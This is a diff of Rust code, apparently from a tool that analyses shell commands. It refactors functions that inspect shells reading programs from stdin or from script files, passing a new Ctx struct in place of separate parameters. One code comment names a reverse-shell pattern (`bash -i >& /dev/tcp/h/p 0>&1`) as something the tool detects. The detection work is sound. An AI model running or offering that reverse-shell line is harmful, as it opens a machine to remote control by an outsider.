@@ -6,6 +6,7 @@
 //! Takes the command's site and folder; adds findings and re-enters the
 //! shell or code lanes with the script found.
 
+use super::ctx::Ctx;
 use super::scripts::ScriptKind;
 use super::{Run, Site};
 use crate::feeds;
@@ -109,13 +110,8 @@ impl Run<'_> {
     }
 
     /// A shell or interpreter reading its program from stdin.
-    pub(super) fn program_from_stdin(
-        &mut self,
-        who: &str,
-        site: &Site,
-        depth: usize,
-        cwd: Option<PathBuf>,
-    ) {
+    pub(super) fn program_from_stdin(&mut self, who: &str, ctx: &Ctx) {
+        let (site, depth, cwd) = (ctx.site, ctx.depth, ctx.cwd.clone());
         let part = site.command.text.as_str();
         // `source /dev/stdin` and `. /dev/stdin` run shell text too.
         let is_shell = crate::rules::is_shell(who) || matches!(who, "source" | ".");
@@ -158,14 +154,8 @@ impl Run<'_> {
     }
 
     /// A shell or `source` running a script file by path.
-    pub(super) fn program_file(
-        &mut self,
-        who: &str,
-        file: &Word,
-        site: &Site,
-        depth: usize,
-        cwd: Option<PathBuf>,
-    ) {
+    pub(super) fn program_file(&mut self, who: &str, file: &Word, ctx: &Ctx) {
+        let (site, depth) = (ctx.site, ctx.depth);
         let part = site.command.text.as_str();
         // `bash -i >& /dev/tcp/h/p 0>&1`: a shell wired to the network.
         if site
@@ -185,7 +175,7 @@ impl Run<'_> {
             file.value.as_str(),
             "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0" | "-"
         ) {
-            self.program_from_stdin(who, site, depth, cwd);
+            self.program_from_stdin(who, ctx);
             return;
         }
         if file.substitution {
@@ -199,6 +189,6 @@ impl Run<'_> {
                 _ => {}
             }
         }
-        self.script_file(who, ScriptKind::Shell, file, site, depth, cwd);
+        self.script_file(who, ScriptKind::Shell, file, ctx);
     }
 }
